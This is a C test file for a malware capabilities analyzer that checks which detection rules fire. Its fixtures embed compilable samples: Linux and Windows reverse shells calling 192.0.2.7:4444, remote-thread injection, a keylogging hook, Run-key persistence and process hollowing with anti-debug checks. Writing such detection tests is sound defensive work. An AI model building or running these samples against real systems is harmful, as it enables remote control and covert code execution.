/* The capabilities analyzer (lib/analyzers/capabilities/, rules/capabilities.json):
 * the rule file loads and bad rule files are refused with the rule named;
 * programs compiled now (a Linux reverse shell, Windows injection, a keyboard
 * hook, a Run key in UTF-16, a cmd.exe reverse shell, a section renamed as
 * UPX names it) fire exactly their rules, with the imports and strings that
 * made them; a systemd unit and a crontab fire the text rules; a plain
 * program, a table of numbers and this machine's shells and SSH tools fire no
 * remote-shell rule. PK_CAP_SWEEP=1 (or a list of directories) also runs
 * every file there and prints which rules fired where (a measurement, not an
 * assertion). */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <cmocka.h>

#include <parakh/parakh.h>
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "analyzers/capabilities/cap_int.h"
#include "walk/harness_int.h"
#include "fixture.h"

extern const pk_analyzer pki_analyzer_capabilities, pki_analyzer_elf, pki_analyzer_pe;

/* elf and pe first (their facts say what is imported), as in a scan */
static uint8_t *run_file(const char *path, pki_frec *r, size_t *n)
{
    uint8_t *b = fx_read(path, n);
    if (!b)
        return NULL;
    assert_int_equal(pki_frec_init(r), PK_OK);
    pk_bytes d = {b, *n};
    assert_int_equal(pki_harness_run(&pki_analyzer_elf, d, path, r), PK_OK);
    assert_int_equal(pki_harness_run(&pki_analyzer_pe, d, path, r), PK_OK);
    assert_int_equal(pki_harness_run(&pki_analyzer_capabilities, d, path, r), PK_OK);
    return b;
}

static uint8_t *run_fx(const char *name, pki_frec *r, size_t *n)
{
    char path[256];
    snprintf(path, sizeof path, "%s/%s", fx_dir, name);
    uint8_t *b = run_file(path, r, n);
    if (!b)
        fail_msg("fixture %s missing (see %s/build.log)", name, fx_dir);
    return b;
}

static const pk_finding *finding(const pki_frec *r, const char *rule)
{
    for (size_t i = 0; i < r->nfind; i++)
        if (strcmp(r->findings[i].rule_id, rule) == 0)
            return &r->findings[i];
    return NULL;
}

/* the PK-CAP rules that fired, as "PK-CAP-0001 PK-CAP-0018 " */
static void fired(const pki_frec *r, char *out, size_t cap)
{
    size_t o = 0;
    out[0] = 0;
    for (size_t i = 0; i < r->nfind && o < cap; i++)
        if (strncmp(r->findings[i].rule_id, "PK-CAP-", 7) == 0) {
            int w = snprintf(out + o, cap - o, "%s ", r->findings[i].rule_id);
            if (w > 0)
                o += (size_t)w;
        }
}

static void dump(const char *what, const pki_frec *r)
{
    if (!getenv("PK_DUMP"))
        return;
    char *s = json_dumps(json_object_get(r->facts, "capabilities"), JSON_INDENT(1));
    fprintf(stderr, "== %s\n%s\n", what, s ? s : "null");
    free(s);
    for (size_t i = 0; i < r->nfind; i++)
        if (strncmp(r->findings[i].rule_id, "PK-CAP-", 7) == 0)
            fprintf(stderr, "%s @%llu: %s\n", r->findings[i].rule_id,
                    (unsigned long long)r->findings[i].loc.offset, r->findings[i].message);
}

/* the evidence entry of `rule` whose name or text is `name` */
static const json_t *evidence(const pki_frec *r, const char *rule, const char *name)
{
    json_t *m = json_object_get(json_object_get(r->facts, "capabilities"), "matched");
    size_t i, k;
    json_t *e, *x;
    json_array_foreach(m, i, e)
    {
        if (strcmp(json_string_value(json_object_get(e, "id")), rule) != 0)
            continue;
        json_array_foreach(json_object_get(e, "evidence"), k, x)
        {
            const char *n = json_string_value(json_object_get(x, "name"));
            const char *t = json_string_value(json_object_get(x, "text"));
            if ((n && strcmp(n, name) == 0) || (t && strcmp(t, name) == 0))
                return x;
        }
    }
    return NULL;
}

static const char *kind_of(const json_t *e)
{
    const char *s = json_string_value(json_object_get(e, "kind"));
    return s ? s : "";
}

static long long find(const uint8_t *b, size_t n, const void *s, size_t len)
{
    for (size_t i = 0; i + len <= n; i++)
        if (memcmp(b + i, s, len) == 0)
            return (long long)i;
    return -1;
}

/* ---- the rule file ---- */

static void test_rules(void **st)
{
    (void)st;
    pki_cap_set *set = NULL;
    char err[320] = "";
    if (pki_cap_load(&set, err, sizeof err) != PK_OK)
        fail_msg("rules/capabilities.json: %s", err);
    assert_int_equal(set->nrules, 27);
    for (size_t i = 0; i < set->nrules; i++) {
        char id[32];
        snprintf(id, sizeof id, "PK-CAP-%04u", (unsigned)(i + 1));
        assert_string_equal(set->rules[i].id, id); /* numbered in file order, none skipped */
        assert_true(set->rules[i].nattack >= 1);
        assert_true(set->rules[i].ng >= 1);
    }
    pki_cap_free(set);

    static const struct {
        const char *json, *why;
    } bad[] = {
        {"{\"rules\": []}", "non-empty"},
        {"{\"rules\": [{\"id\": \"CAP-1\"}]}", "PK-CAP-NNNN"},
        {"{\"rules\": [{\"id\": \"PK-CAP-0001\", \"name\": \"x\", \"attack\": [\"T1\"], "
         "\"severity\": \"low\", \"confidence\": 50, \"all\": [[{\"import\": \"a\"}]]}]}",
         "PK-CAP-0001: attack"},
        {"{\"rules\": [{\"id\": \"PK-CAP-0002\", \"name\": \"x\", \"attack\": [\"T1055\"], "
         "\"severity\": \"low\", \"confidence\": 50, \"all\": [{\"min\": 3, \"any\": "
         "[{\"import\": \"a\"}, {\"import\": \"b\"}]}]}]}",
         "PK-CAP-0002: min"},
        {"{\"rules\": [{\"id\": \"PK-CAP-0003\", \"name\": \"x\", \"attack\": [\"T1055\"], "
         "\"severity\": \"low\", \"confidence\": 50, \"all\": [[{\"import\": \"a\", \"string\": "
         "\"b\"}]]}]}",
         "PK-CAP-0003: a term has exactly one"},
        {"{\"rules\": [{\"id\": \"PK-CAP-0004\", \"name\": \"x\", \"attack\": [\"T1055\"], "
         "\"severity\": \"low\", \"confidence\": 50, \"colour\": 1, \"all\": [[{\"import\": "
         "\"a\"}]]}]}",
         "PK-CAP-0004: unknown key"},
        {"{\"rules\": [{\"id\": \"PK-CAP-0005\", \"name\": \"x\", \"attack\": [\"T1055\"], "
         "\"severity\": \"grave\", \"confidence\": 50, \"all\": [[{\"import\": \"a\"}]]}]}",
         "PK-CAP-0005: severity"},
        {"{\"rules\": [{\"id\": \"PK-CAP-0006\", \"name\": \"x\", \"attack\": [\"T1055\"], "
         "\"severity\": \"low\", \"confidence\": 50, \"all\": [[{\"import\": \"a\", \"enc\": "
         "\"utf16\"}]]}]}",
         "PK-CAP-0006: enc"},
        {"{\"rules\": [{\"id\": \"PK-CAP-0007\", \"name\": \"x\", \"attack\": [\"T1055\"], "
         "\"severity\": \"low\", \"confidence\": 50, \"all\": [[{\"api\": \"k32.dll!a\"}]]}]}",
         "PK-CAP-0007: api names"},
        {"{\"rules\": [1, 2", "line 1"},
    };
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        err[0] = 0;
        assert_int_equal(pki_cap_parse(bad[i].json, strlen(bad[i].json), &set, err, sizeof err),
                         PK_E_USAGE);
        assert_null(set);
        if (!strstr(err, bad[i].why))
            fail_msg("case %zu: \"%s\" lacks \"%s\"", i, err, bad[i].why);
    }
}

/* ---- Linux programs and text files ---- */

static const char revshell_src[] =
    "#include <arpa/inet.h>\n#include <sys/socket.h>\n#include <unistd.h>\n"
    "int main(void) {\n"
    "  struct sockaddr_in a = {0};\n"
    "  a.sin_family = AF_INET; a.sin_port = htons(4444);\n"
    "  inet_pton(AF_INET, \"192.0.2.7\", &a.sin_addr);\n"
    "  int s = socket(AF_INET, SOCK_STREAM, 0);\n"
    "  if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) return 1;\n"
    "  for (int i = 0; i < 3; i++) dup2(s, i);\n"
    "  char *argv[] = {\"/bin/sh\", \"-i\", 0};\n"
    "  return execve(argv[0], argv, 0);\n"
    "}\n";

static void test_linux(void **st)
{
    (void)st;
    assert_int_equal(fx_mkdtemp("/tmp/pk-test-cap-XXXXXX"), 0);
    fx_put("rs.c", revshell_src);
    fx_put("hello.c", "#include <stdio.h>\nint main(void) { puts(\"hello, world\"); return 0; }\n");
    assert_int_equal(fx_sh("cc -O0 -o rs rs.c && cc -O2 -o hello hello.c"), 0);
    pki_frec r;
    size_t n;
    char ids[256];
    uint8_t *b = run_fx("rs", &r, &n);
    dump("reverse shell", &r);
    fired(&r, ids, sizeof ids);
    assert_string_equal(ids, "PK-CAP-0001 ");
    const pk_finding *f = finding(&r, "PK-CAP-0001");
    assert_int_equal(f->severity, PK_SEV_HIGH);
    assert_int_equal(f->confidence, 70);
    assert_non_null(strstr(f->message, "(ATT&CK T1059.004, T1071):"));
    static const char *const imps[] = {"socket", "connect", "dup2", "execve"};
    for (size_t i = 0; i < 4; i++) {
        assert_string_equal(kind_of(evidence(&r, "PK-CAP-0001", imps[i])), "import");
        char want[32];
        snprintf(want, sizeof want, "imports %s", imps[i]);
        assert_non_null(strstr(f->message, want));
    }
    /* the shell's path: the finding points at it */
    long long at = find(b, n, "/bin/sh", 8);
    assert_true(at > 0);
    const json_t *e = evidence(&r, "PK-CAP-0001", "/bin/sh");
    assert_string_equal(kind_of(e), "string");
    assert_int_equal(json_integer_value(json_object_get(e, "offset")), at);
    assert_int_equal(f->loc.offset, (uint64_t)at);
    assert_int_equal(f->loc.length, 7);
    assert_memory_equal(f->evidence.ptr, "/bin/sh", 7);
    pki_frec_fini(&r);
    free(b);

    b = run_fx("hello", &r, &n);
    dump("hello", &r);
    fired(&r, ids, sizeof ids);
    assert_string_equal(ids, "");
    assert_null(json_object_get(r.facts, "capabilities"));
    pki_frec_fini(&r);
    free(b);

    /* text rules: a unit file and a crontab; numbers in columns are no crontab */
    fx_put("agent.service", "[Unit]\nDescription=agent\n\n[Service]\nExecStart=/opt/a/agent\n"
                            "Restart=always\n\n[Install]\nWantedBy=multi-user.target\n");
    fx_put("agent.cron", "# m h dom mon dow command\nSHELL=/bin/sh\n"
                         "*/5 * * * * root /opt/a/agent --beat\n@reboot /opt/a/agent\n");
    fx_put("table.txt", "id a b c d e\n1 2 3 4 5 six\n10 20 30 40 50 sixty\n");
    b = run_fx("agent.service", &r, &n);
    fired(&r, ids, sizeof ids);
    assert_string_equal(ids, "PK-CAP-0014 ");
    f = finding(&r, "PK-CAP-0014");
    assert_int_equal(f->loc.offset, find(b, n, "ExecStart=", 10));
    assert_non_null(evidence(&r, "PK-CAP-0014", "WantedBy="));
    pki_frec_fini(&r);
    free(b);
    b = run_fx("agent.cron", &r, &n);
    dump("crontab", &r);
    fired(&r, ids, sizeof ids);
    assert_string_equal(ids, "PK-CAP-0012 ");
    f = finding(&r, "PK-CAP-0012");
    /* the first cron line, quoted whole from its start */
    assert_int_equal(f->loc.offset, find(b, n, "*/5", 3));
    assert_int_equal(f->loc.length, strlen("*/5 * * * * root /opt/a/agent --beat"));
    assert_non_null(strstr(f->message, "line \"*/5 * * * * root /opt/a/agent --beat\" at 0x"));
    assert_non_null(strstr(f->message, "line \"@reboot /opt/a/agent\" at 0x"));
    pki_frec_fini(&r);
    free(b);
    b = run_fx("table.txt", &r, &n);
    fired(&r, ids, sizeof ids);
    assert_string_equal(ids, "");
    pki_frec_fini(&r);
    free(b);
    fx_remove();
}

/* Shells, interpreters and SSH import socket, connect, dup2 and execve among
 * hundreds of functions: no remote shell there; nothing at all in ls and cat. */
static void test_system(void **st)
{
    (void)st;
    static const char *const quiet[] = {"/usr/bin/ls", "/usr/bin/cat"};
    static const char *const big[] = {"/usr/bin/bash", "/usr/sbin/sshd", "/usr/bin/ssh",
                                      "/usr/bin/perl", "/usr/bin/python3"};
    size_t seen = 0;
    char ids[512];
    for (size_t i = 0; i < sizeof quiet / sizeof quiet[0]; i++) {
        pki_frec r;
        size_t n;
        uint8_t *b = run_file(quiet[i], &r, &n);
        if (!b)
            continue;
        seen++;
        fired(&r, ids, sizeof ids);
        if (ids[0])
            fail_msg("%s: %s", quiet[i], ids);
        pki_frec_fini(&r);
        free(b);
    }
    for (size_t i = 0; i < sizeof big / sizeof big[0]; i++) {
        pki_frec r;
        size_t n;
        uint8_t *b = run_file(big[i], &r, &n);
        if (!b)
            continue;
        seen++;
        dump(big[i], &r);
        fired(&r, ids, sizeof ids);
        if (ids[0])
            fail_msg("%s: %s", big[i], ids);
        pki_frec_fini(&r);
        free(b);
    }
    assert_true(seen >= 3); /* ls, cat and bash are on every build machine */
}

/* ---- Windows programs (mingw-w64) ---- */

static const char inject_src[] =
    "#include <windows.h>\n"
    "int main(int c, char **v) {\n"
    "  HANDLE p = OpenProcess(PROCESS_ALL_ACCESS, FALSE, (DWORD)c);\n"
    "  void *m = VirtualAllocEx(p, 0, 4096, MEM_COMMIT, PAGE_EXECUTE_READWRITE);\n"
    "  WriteProcessMemory(p, m, v[0], 16, 0);\n"
    "  return CreateRemoteThread(p, 0, 0, (LPTHREAD_START_ROUTINE)m, 0, 0, 0) != 0;\n"
    "}\n";

static const char hook_src[] =
    "#include <windows.h>\n"
    "static LRESULT CALLBACK kb(int c, WPARAM w, LPARAM l) {\n"
    "  KBDLLHOOKSTRUCT *k = (KBDLLHOOKSTRUCT *)l; WCHAR name[32]; BYTE st[256];\n"
    "  GetKeyboardState(st);\n"
    "  ToUnicode(k->vkCode, k->scanCode, st, name, 32, 0);\n"
    "  return CallNextHookEx(0, c, w, l);\n"
    "}\n"
    "int main(void) {\n"
    "  HHOOK h = SetWindowsHookExW(WH_KEYBOARD_LL, kb, GetModuleHandleW(0), 0);\n"
    "  MSG m; while (GetMessageW(&m, 0, 0, 0) > 0) DispatchMessageW(&m);\n"
    "  return UnhookWindowsHookEx(h);\n"
    "}\n";

static const char runkey_src[] =
    "#include <windows.h>\n"
    "int main(void) {\n"
    "  HKEY k;\n"
    "  if (RegOpenKeyExW(HKEY_CURRENT_USER,\n"
    "      L\"Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\", 0, KEY_SET_VALUE,\n"
    "      &k)) return 1;\n"
    "  return RegSetValueExW(k, L\"agent\", 0, REG_SZ, (const BYTE *)L\"C:\\\\a.exe\", 18);\n"
    "}\n";

static const char wshell_src[] =
    "#include <winsock2.h>\n#include <windows.h>\n"
    "int main(void) {\n"
    "  WSADATA d; WSAStartup(MAKEWORD(2, 2), &d);\n"
    "  SOCKET s = WSASocketA(AF_INET, SOCK_STREAM, IPPROTO_TCP, 0, 0, 0);\n"
    "  struct sockaddr_in a = {0}; a.sin_family = AF_INET; a.sin_port = htons(4444);\n"
    "  a.sin_addr.s_addr = inet_addr(\"192.0.2.7\");\n"
    "  if (connect(s, (struct sockaddr *)&a, sizeof a)) return 1;\n"
    "  STARTUPINFOA si = {sizeof si}; PROCESS_INFORMATION pi;\n"
    "  si.dwFlags = STARTF_USESTDHANDLES;\n"
    "  si.hStdInput = si.hStdOutput = si.hStdError = (HANDLE)s;\n"
    "  char cmd[] = \"cmd.exe\";\n"
    "  return !CreateProcessA(0, cmd, 0, 0, TRUE, 0, 0, 0, &si, &pi);\n"
    "}\n";

/* names given to GetProcAddress: resolved at run time, found as C strings */
static const char hollow_src[] =
    "#include <windows.h>\n"
    "typedef LONG (WINAPI *unmap_fn)(HANDLE, PVOID);\n"
    "typedef BOOL (WINAPI *dbg_fn)(void);\n"
    "int main(void) {\n"
    "  HMODULE nt = GetModuleHandleA(\"ntdll.dll\"), k = GetModuleHandleA(\"kernel32.dll\");\n"
    "  unmap_fn un = (unmap_fn)GetProcAddress(nt, \"NtUnmapViewOfSection\");\n"
    "  dbg_fn dbg = (dbg_fn)GetProcAddress(k, \"IsDebuggerPresent\");\n"
    "  BOOL remote = FALSE; CheckRemoteDebuggerPresent(GetCurrentProcess(), &remote);\n"
    "  if (remote || dbg()) return 1;\n"
    "  STARTUPINFOA si = {sizeof si}; PROCESS_INFORMATION pi; CONTEXT c = {0};\n"
    "  char cmd[] = \"svchost.exe\";\n"
    "  if (!CreateProcessA(0, cmd, 0, 0, 0, CREATE_SUSPENDED, 0, 0, &si, &pi)) return 1;\n"
    "  un(pi.hProcess, (PVOID)0x400000);\n"
    "  WriteProcessMemory(pi.hProcess, (PVOID)0x400000, cmd, sizeof cmd, 0);\n"
    "  SetThreadContext(pi.hThread, &c);\n"
    "  return (int)ResumeThread(pi.hThread);\n"
    "}\n";

static void test_windows(void **st)
{
    (void)st;
    assert_int_equal(fx_mkdtemp("/tmp/pk-test-capw-XXXXXX"), 0);
    fx_put("inj.c", inject_src);
    fx_put("hook.c", hook_src);
    fx_put("run.c", runkey_src);
    fx_put("ws.c", wshell_src);
    fx_put("hollow.c", hollow_src);
    if (fx_sh("x86_64-w64-mingw32-gcc -O0 -o inj.exe inj.c") != 0) {
        fx_remove();
        skip(); /* no mingw-w64 */
        return;
    }
    assert_int_equal(fx_sh("x86_64-w64-mingw32-gcc -O0 -o hook.exe hook.c && "
                           "x86_64-w64-mingw32-gcc -O0 -o run.exe run.c -ladvapi32 && "
                           "x86_64-w64-mingw32-gcc -O0 -o ws.exe ws.c -lws2_32 && "
                           "x86_64-w64-mingw32-gcc -O0 -o hollow.exe hollow.c && "
                           "x86_64-w64-mingw32-objcopy --rename-section .data=UPX1 inj.exe "
                           "upx.exe"),
                     0);
    pki_frec r;
    size_t n;
    char ids[256];
    uint8_t *b = run_fx("inj.exe", &r, &n);
    dump("injection", &r);
    fired(&r, ids, sizeof ids);
    assert_string_equal(ids, "PK-CAP-0018 ");
    const pk_finding *f = finding(&r, "PK-CAP-0018");
    assert_int_equal(f->severity, PK_SEV_HIGH);
    assert_non_null(f->loc.record);
    assert_string_equal(f->loc.record, "import table");
    assert_int_equal(f->loc.offset, PK_LOC_NONE);
    assert_non_null(strstr(f->message, "(ATT&CK T1055, T1055.002): imports VirtualAllocEx; "
                                       "imports WriteProcessMemory; imports CreateRemoteThread."));
    pki_frec_fini(&r);
    free(b);

    b = run_fx("hook.exe", &r, &n);
    dump("hook", &r);
    fired(&r, ids, sizeof ids);
    assert_string_equal(ids, "PK-CAP-0003 ");
    assert_string_equal(kind_of(evidence(&r, "PK-CAP-0003", "SetWindowsHookExW")), "import");
    assert_string_equal(kind_of(evidence(&r, "PK-CAP-0003", "ToUnicode")), "import");
    pki_frec_fini(&r);
    free(b);

    b = run_fx("run.exe", &r, &n);
    dump("run key", &r);
    fired(&r, ids, sizeof ids);
    assert_string_equal(ids, "PK-CAP-0009 ");
    static const char key[] = "Software\\Microsoft\\Windows\\CurrentVersion\\Run";
    uint8_t wide[2 * sizeof key];
    for (size_t i = 0; i < sizeof key - 1; i++) {
        wide[2 * i] = (uint8_t)key[i];
        wide[2 * i + 1] = 0;
    }
    long long at = find(b, n, wide, 2 * (sizeof key - 1));
    assert_true(at > 0);
    f = finding(&r, "PK-CAP-0009");
    assert_int_equal(f->loc.offset, (uint64_t)at);
    assert_int_equal(f->loc.length, 2 * (sizeof key - 1));
    const json_t *e = evidence(&r, "PK-CAP-0009", key);
    assert_string_equal(json_string_value(json_object_get(e, "encoding")), "utf16le");
    assert_non_null(strstr(f->message, "UTF-16LE string"));
    pki_frec_fini(&r);
    free(b);

    b = run_fx("ws.exe", &r, &n);
    dump("windows shell", &r);
    fired(&r, ids, sizeof ids);
    assert_string_equal(ids, "PK-CAP-0002 ");
    assert_string_equal(kind_of(evidence(&r, "PK-CAP-0002", "WSASocketA")), "import");
    assert_string_equal(kind_of(evidence(&r, "PK-CAP-0002", "CreateProcessA")), "import");
    e = evidence(&r, "PK-CAP-0002", "cmd.exe");
    assert_int_equal(json_integer_value(json_object_get(e, "offset")), find(b, n, "cmd.exe", 8));
    pki_frec_fini(&r);
    free(b);

    b = run_fx("hollow.exe", &r, &n);
    dump("hollowing", &r);
    fired(&r, ids, sizeof ids);
    assert_string_equal(ids, "PK-CAP-0019 PK-CAP-0020 ");
    e = evidence(&r, "PK-CAP-0019", "NtUnmapViewOfSection");
    assert_string_equal(kind_of(e), "api-name");
    assert_int_equal(json_integer_value(json_object_get(e, "offset")),
                     find(b, n, "NtUnmapViewOfSection", 21));
    assert_string_equal(kind_of(evidence(&r, "PK-CAP-0019", "SetThreadContext")), "import");
    assert_string_equal(kind_of(evidence(&r, "PK-CAP-0020", "IsDebuggerPresent")), "api-name");
    assert_string_equal(kind_of(evidence(&r, "PK-CAP-0020", "CheckRemoteDebuggerPresent")),
                        "import");
    pki_frec_fini(&r);
    free(b);

    b = run_fx("upx.exe", &r, &n);
    dump("UPX1 section", &r);
    fired(&r, ids, sizeof ids);
    assert_string_equal(ids, "PK-CAP-0018 PK-CAP-0023 ");
    assert_string_equal(kind_of(evidence(&r, "PK-CAP-0023", "UPX1")), "section");
    assert_string_equal(finding(&r, "PK-CAP-0023")->loc.record, "section table");
    pki_frec_fini(&r);
    free(b);
    fx_remove();
}

/* ---- the sweep: which rules fire on a real system ---- */

static void sweep_dir(const char *dir, size_t *files, size_t *with)
{
    DIR *d = opendir(dir);
    if (!d)
        return;
    struct dirent *de;
    while ((de = readdir(d))) {
        char p[512];
        struct stat sb;
        snprintf(p, sizeof p, "%s/%s", dir, de->d_name);
        if (lstat(p, &sb) != 0 || !S_ISREG(sb.st_mode) || sb.st_size > 200 * 1024 * 1024)
            continue;
        pki_frec r;
        size_t n;
        uint8_t *b = run_file(p, &r, &n);
        if (!b)
            continue;
        (*files)++;
        char ids[1024];
        fired(&r, ids, sizeof ids);
        if (ids[0]) {
            (*with)++;
            printf("SWEEP %s: %s\n", p, ids);
        }
        pki_frec_fini(&r);
        free(b);
    }
    closedir(d);
}

/* PK_CAP_SWEEP=1 (/usr/bin) or a colon-separated list of directories */
static void test_sweep(void **st)
{
    (void)st;
    const char *env = getenv("PK_CAP_SWEEP");
    if (!env) {
        skip();
        return;
    }
    char dirs[2048];
    snprintf(dirs, sizeof dirs, "%s", strcmp(env, "1") == 0 ? "/usr/bin" : env);
    size_t files = 0, with = 0;
    char *save = NULL;
    for (char *d = strtok_r(dirs, ":", &save); d; d = strtok_r(NULL, ":", &save))
        sweep_dir(d, &files, &with);
    printf("SWEEP files %zu, with capabilities %zu\n", files, with);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_rules),   cmocka_unit_test(test_linux), cmocka_unit_test(test_system),
        cmocka_unit_test(test_windows), cmocka_unit_test(test_sweep),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
